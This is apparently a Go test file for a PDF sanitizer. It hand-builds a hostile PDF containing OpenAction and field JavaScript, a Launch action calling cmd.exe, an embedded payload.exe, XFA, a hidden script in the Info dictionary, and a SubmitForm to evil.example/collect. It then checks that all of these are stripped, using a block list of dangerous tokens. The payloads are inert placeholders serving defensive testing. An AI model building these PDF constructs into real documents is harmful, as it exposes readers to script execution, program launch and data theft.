package pdfworker_test

import (
	"bytes"
	"compress/zlib"
	"context"
	"fmt"
	"io"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/pdfcpu/pdfcpu/pkg/api"
	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/model"
	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/types"

	"github.com/ratsmappe/ratsmappe/documents/pdfworker"
)

// buildPDF writes a PDF from numbered object bodies (object i+1 is
// objs[i]) with a correct cross-reference table; object 1 is the catalog.
// trailer is added to the trailer dictionary, e.g. "/Info 9 0 R".
func buildPDF(objs []string, trailer ...string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	offsets := make([]int, len(objs))
	for i, o := range objs {
		offsets[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
	for _, off := range offsets {
		fmt.Fprintf(&b, "%010d 00000 n \n", off)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, strings.Join(trailer, " "), xref)
	return b.Bytes()
}

func stream(dict, data string) string {
	return fmt.Sprintf("<< %s /Length %d >>\nstream\n%s\nendstream", dict, len(data), data)
}

const hostileText = "Beschlussvorlage Radweg Durlacher Allee"

// hostilePDF has every kind of active content the sanitizer must remove.
func hostilePDF() []byte { return buildPDF(hostileObjects(), hostileTrailer) }

const hostileTrailer = "/Info 16 0 R"

func hostileObjects() []string {
	content := "BT /F1 18 Tf 72 720 Td (" + hostileText + ") Tj ET"
	return []string{
		// 1 catalog: OpenAction JavaScript, Names with JavaScript and
		// EmbeddedFiles, AcroForm with XFA, document-level AA.
		`<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R
		   /Names << /JavaScript 6 0 R /EmbeddedFiles 8 0 R >>
		   /AcroForm << /Fields [15 0 R] /XFA 12 0 R /DA (/Helv 0 Tf 0 g) >>
		   /AA << /WC << /S /JavaScript /JS (app.alert\('close'\)) >> >> >>`,
		// 2 pages
		`<< /Type /Pages /Kids [3 0 R] /Count 1 >>`,
		// 3 page with a Launch link, a FileAttachment annotation and page AA
		`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R
		   /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>
		   /Annots [10 0 R 11 0 R 13 0 R 15 0 R]
		   /AA << /O << /S /JavaScript /JS (app.alert\('page'\)) >> >> >>`,
		// 4 content
		stream("", content),
		// 5 OpenAction
		`<< /Type /Action /S /JavaScript /JS (app.alert\('EVIL-OPEN-ACTION'\)) >>`,
		// 6 JavaScript name tree
		`<< /Names [(init) 7 0 R] >>`,
		// 7 document-level script
		`<< /S /JavaScript /JS (this.exportDataObject\({cName: 'x'}\); EVIL-NAME-TREE) >>`,
		// 8 EmbeddedFiles name tree
		`<< /Names [(payload.exe) 9 0 R] >>`,
		// 9 file specification with the embedded stream
		`<< /Type /Filespec /F (payload.exe) /EF << /F 14 0 R >> >>`,
		// 10 link with a Launch action
		`<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /Border [0 0 0]
		   /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c EVIL-LAUNCH) >> >> >>`,
		// 11 file attachment annotation
		`<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 90 620] /FS 9 0 R /Contents (Anhang) >>`,
		// 12 XFA
		stream("", "<xdp:xdp>EVIL-XFA</xdp:xdp>"),
		// 13 a harmless web link, which stays
		`<< /Type /Annot /Subtype /Link /Rect [72 500 300 530] /A << /S /URI /URI (https://www.karlsruhe.de/) >> /Private 18 0 R >>`,
		// 14 the embedded file
		stream("/Type /EmbeddedFile", "MZ EVIL-EMBEDDED-PAYLOAD"),
		// 15 a form field whose keystroke action is a script
		`<< /Type /Annot /Subtype /Widget /FT /Tx /T (Name) /DA (/Helv 12 Tf 0 g) /Rect [72 400 300 420] /P 3 0 R
		   /AA << /K << /S /JavaScript /JS (EVIL-FIELD) >> >>
		   /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >> >>`,
		// 16 document information with a script where no validator looks
		`<< /Title (Radweg) /Hidden 17 0 R >>`,
		// 17
		`<< /S /JavaScript /JS (EVIL-IN-INFO) >>`,
		// 18 an action under a key no validator knows
		`<< /S /Launch /F (EVIL-UNDER-PRIVATE-KEY) >>`,
	}
}

// TestSanitizer: after ingestion, re-parsing the rendition finds none of
// the active content, and the text is unchanged.
// It does so for the file as written by hand (classic cross-reference
// table) and for the same file rewritten with object streams, where pdfcpu
// decodes objects only when asked to.
func TestSanitizer(t *testing.T) {
	p := newPool(t, nil)
	t.Run("xref table", func(t *testing.T) {
		testSanitizer(t, p, writeFile(t, "hostile.pdf", hostilePDF()))
	})
	t.Run("object streams", func(t *testing.T) {
		testSanitizer(t, p, writeFile(t, "hostile-objstm.pdf", withObjectStreams(hostileObjects(), hostileTrailer)))
	})
}

// withObjectStreams is buildPDF for PDF 1.5 and later: every object but
// the streams goes into one compressed object stream, and the
// cross-reference table is a stream too. pdfcpu decodes such objects only
// when asked to.
func withObjectStreams(objs []string, trailer ...string) []byte {
	n := len(objs)
	stm := n + 1  // the object stream
	xref := n + 2 // the cross-reference stream
	var head, body bytes.Buffer
	var inStm []int // object numbers in the object stream
	for i, o := range objs {
		if strings.Contains(o, "stream\n") {
			continue
		}
		fmt.Fprintf(&head, "%d %d ", i+1, body.Len())
		body.WriteString(o)
		body.WriteString("\n")
		inStm = append(inStm, i+1)
	}
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	zw.Write(head.Bytes())
	zw.Write(body.Bytes())
	zw.Close()

	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	offsets := make([]int, xref+1)
	for i, o := range objs {
		if strings.Contains(o, "stream\n") {
			offsets[i+1] = b.Len()
			fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
		}
	}
	offsets[stm] = b.Len()
	fmt.Fprintf(&b, "%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n",
		stm, len(inStm), head.Len(), z.Len())
	b.Write(z.Bytes())
	b.WriteString("\nendstream\nendobj\n")
	offsets[xref] = b.Len()
	// Entries of 1 + 4 + 2 bytes: type, offset or object stream, generation or index.
	var x bytes.Buffer
	entry := func(typ byte, f2 uint32, f3 uint16) {
		x.Write([]byte{typ, byte(f2 >> 24), byte(f2 >> 16), byte(f2 >> 8), byte(f2), byte(f3 >> 8), byte(f3)})
	}
	entry(0, 0, 65535)
	for num := 1; num <= xref; num++ {
		if k := slices.Index(inStm, num); k >= 0 {
			entry(2, uint32(stm), uint16(k))
		} else {
			entry(1, uint32(offsets[num]), 0)
		}
	}
	fmt.Fprintf(&b, "%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R %s /Length %d >>\nstream\n",
		xref, xref+1, strings.Join(trailer, " "), x.Len())
	b.Write(x.Bytes())
	fmt.Fprintf(&b, "\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n", offsets[xref])
	return b.Bytes()
}

func testSanitizer(t *testing.T, p *pdfworker.Pool, in string) {
	ctx := context.Background()
	res, err := p.Ingest(ctx, in)
	if err != nil {
		t.Fatalf("ingest: %v", err)
	}
	defer os.Remove(res.RenditionPath)

	if got, want := len(res.Pages), 1; got != want {
		t.Fatalf("pages = %d, want %d", got, want)
	}
	if got := strings.TrimSpace(res.Pages[0].Text); got != hostileText {
		t.Errorf("text = %q, want %q", got, hostileText)
	}
	for _, want := range []string{"OpenAction", "JavaScript", "Launch", "EmbeddedFile", "FileAttachment", "XFA", "AdditionalActions", "SubmitForm"} {
		if !contains(res.Sanitized, want) {
			t.Errorf("Sanitized = %v, lacks %s", res.Sanitized, want)
		}
	}

	// The raw bytes, with every stream inflated, hold none of it.
	raw, err := os.ReadFile(res.RenditionPath)
	if err != nil {
		t.Fatal(err)
	}
	all := string(raw) + inflateAll(raw)
	for _, bad := range []string{"EVIL-", "/JavaScript", "/JS", "/Launch", "/EmbeddedFile", "/FileAttachment", "/XFA", "/OpenAction", "/AA", "payload.exe", "cmd.exe", "evil.example", "/SubmitForm"} {
		if strings.Contains(all, bad) {
			t.Errorf("rendition still contains %q", bad)
		}
	}
	if !strings.Contains(all, "https://www.karlsruhe.de/") {
		t.Errorf("the harmless web link was removed")
	}

	// pdfcpu, reading the rendition, finds no action, script or file.
	f, err := os.Open(res.RenditionPath)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	conf := model.NewDefaultConfiguration()
	conf.ValidationMode = model.ValidationRelaxed
	pctx, err := api.ReadContext(f, conf)
	if err != nil {
		t.Fatalf("re-parse: %v", err)
	}
	links := 0
	for n, e := range pctx.XRefTable.Table {
		if e == nil || e.Free || e.Object == nil {
			continue
		}
		if _, lazy := e.Object.(types.LazyObjectStreamObject); lazy {
			// An object in an object stream, not decoded yet.
			o, err := pctx.Dereference(*types.NewIndirectRef(n, 0))
			if err != nil {
				t.Errorf("object %d: %v", n, err)
				continue
			}
			e.Object = o
		}
		checkObject(t, n, e.Object)
		if d, ok := e.Object.(types.Dict); ok && d.NameEntry("Subtype") != nil && *d.NameEntry("Subtype") == "Link" {
			links++
		}
	}
	// The link that launched a program is still a link, without its
	// action; the web link is unchanged.
	if got, want := links, 2; got != want {
		t.Errorf("%d link annotations, want %d", got, want)
	}
}

func checkObject(t *testing.T, n int, o types.Object) {
	switch v := o.(type) {
	case types.Dict:
		for k, x := range v {
			switch k {
			case "OpenAction", "AA", "JavaScript", "JS", "EmbeddedFiles", "EF", "XFA":
				t.Errorf("object %d still has /%s", n, k)
			case "S":
				if s, ok := x.(types.Name); ok && (s == "JavaScript" || s == "Launch") {
					t.Errorf("object %d is still a %s action", n, s)
				}
			case "Subtype":
				if s, ok := x.(types.Name); ok && s == "FileAttachment" {
					t.Errorf("object %d is still a file attachment", n)
				}
			}
			checkObject(t, n, x)
		}
	case types.StreamDict:
		checkObject(t, n, v.Dict)
	case types.Array:
		for _, x := range v {
			checkObject(t, n, x)
		}
	}
}

var streamRE = regexp.MustCompile(`(?s)stream\r?\n(.*?)\r?\nendstream`)

// inflateAll returns the inflated contents of every Flate stream in b.
func inflateAll(b []byte) string {
	var out strings.Builder
	for _, m := range streamRE.FindAllSubmatch(b, -1) {
		r, err := zlib.NewReader(bytes.NewReader(m[1]))
		if err != nil {
			continue
		}
		data, _ := io.ReadAll(r)
		out.Write(data)
	}
	return out.String()
}

func contains(ss []string, s string) bool {
	for _, x := range ss {
		if x == s {
			return true
		}
	}
	return false
}
